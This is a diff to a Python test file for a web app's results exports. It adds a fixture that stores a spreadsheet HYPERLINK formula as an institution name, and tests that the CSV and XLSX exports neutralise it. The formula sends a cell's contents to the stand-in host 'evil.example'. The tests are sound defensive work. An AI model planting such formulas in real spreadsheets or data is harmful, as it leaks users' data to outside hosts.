@@ -5,7 +5,10 @@ from __future__ import annotations
 import csv
 import io
 
+import pytest
 from openpyxl import load_workbook
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
 
 
 def test_category_csv_has_full_names_and_judge_totals(client, organiser, make_edition, mark_all, mark):
@@ -52,3 +55,34 @@ def test_edition_csv_has_a_category_column(client, organiser, make_edition, mark
 def test_unknown_format_is_404(client, organiser, make_edition):
     edition = make_edition()
     assert client.get(f"/admin/editions/{edition.id}/results/export.pdf").status_code == 404
+
+
+@pytest.fixture
+def poisoned(make_edition, mark_all, db):
+    edition = make_edition(entries=2)
+    category = edition.categories[0]
+    category.entries[0].institution = HYPERLINK
+    db.session.commit()
+    mark_all(category, [9, 8])
+    return edition
+
+
+def test_results_csv_has_no_formula(client, organiser, poisoned):
+    category = poisoned.categories[0]
+    for url in (f"/admin/editions/{poisoned.id}/results/{category.id}/export.csv",
+                f"/admin/editions/{poisoned.id}/results/export.csv"):
+        rows = list(csv.reader(io.StringIO(client.get(url).data.decode("utf-8-sig"))))
+        column = rows[0].index("Institution")
+        assert "'" + HYPERLINK in [r[column] for r in rows[1:]]
+        assert not any(cell.startswith("=") for r in rows for cell in r)
+
+
+def test_results_xlsx_has_no_formula_and_keeps_numbers(client, organiser, poisoned):
+    data = client.get(f"/admin/editions/{poisoned.id}/results/export.xlsx").data
+    [sheet] = load_workbook(io.BytesIO(data)).worksheets
+    rows = list(sheet.iter_rows())
+    header = [c.value for c in rows[0]]
+    cells = [r[header.index("Institution")] for r in rows[1:]]
+    assert ("'" + HYPERLINK, "s") in [(c.value, c.data_type) for c in cells]
+    assert all(c.data_type != "f" for r in rows for c in r)
+    assert rows[1][header.index("Score")].value == 9
